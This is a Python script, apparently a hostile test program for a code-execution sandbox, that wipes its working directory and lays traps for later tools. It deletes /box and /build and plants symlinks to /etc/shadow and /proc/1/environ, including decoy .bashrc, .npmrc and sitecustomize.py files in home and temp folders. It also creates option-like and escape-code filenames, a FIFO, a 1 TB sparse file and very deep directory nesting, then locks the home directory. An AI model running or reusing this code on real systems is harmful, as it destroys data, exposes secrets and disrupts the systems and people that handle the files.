"""Replaces its own files, and leaves what would hurt whoever opens, follows, lists or removes it."""

import os
import shutil
import socket

os.chdir("/box")
for name in os.listdir("."):
    if os.path.isdir(name):
        shutil.rmtree(name)
    else:
        os.unlink(name)
os.symlink("/proc/1/root/etc/shadow", "main.py")
os.symlink("/dev/zero", "main.cpp")
os.mkfifo("main.sh")
os.mkdir("main.js")
os.mkdir("Main.java", 0)
os.symlink("main.go", "main.go")
os.symlink("/", "root")
os.symlink("../../../../../../etc", "up")
os.symlink("/proc/self/fd/1", "stdout")
socket.socket(socket.AF_UNIX).bind("socket")
open(b"\xff\xfe\n\x01", "w").close()
open("-rf", "w").close()
open("a\nb\r\x1b[31m", "w").close()
open("x" * 255, "w").close()
with open("sparse", "wb") as file:
    try:
        os.truncate("sparse", 1 << 40)
    except OSError as error:
        print("sparse:", error.strerror)
with open("secret", "w") as file:
    os.chmod("secret", 0)
here = os.open(".", os.O_RDONLY)
for level in range(300):
    os.mkdir("d" * 200, dir_fd=here)
    deeper = os.open("d" * 200, os.O_RDONLY, dir_fd=here)
    os.close(here)
    here = deeper
for number in range(200):
    os.link("/box/-rf", f"/box/link-{number}")
shutil.rmtree("/build", ignore_errors=True)
os.makedirs("/build/main", exist_ok=True)
for folder in ["/build", "/tmp", os.environ["HOME"], "/dev/shm"]:
    for name in ["main", "Main.class", "main.py", "sitecustomize.py", ".bashrc", ".profile", ".npmrc", "node_modules", ".config"]:
        if not os.path.lexists(f"{folder}/{name}"):
            os.symlink("/proc/1/environ", f"{folder}/{name}")
os.chmod("/box", 0)
os.chmod(os.environ["HOME"], 0)
print("traps laid")
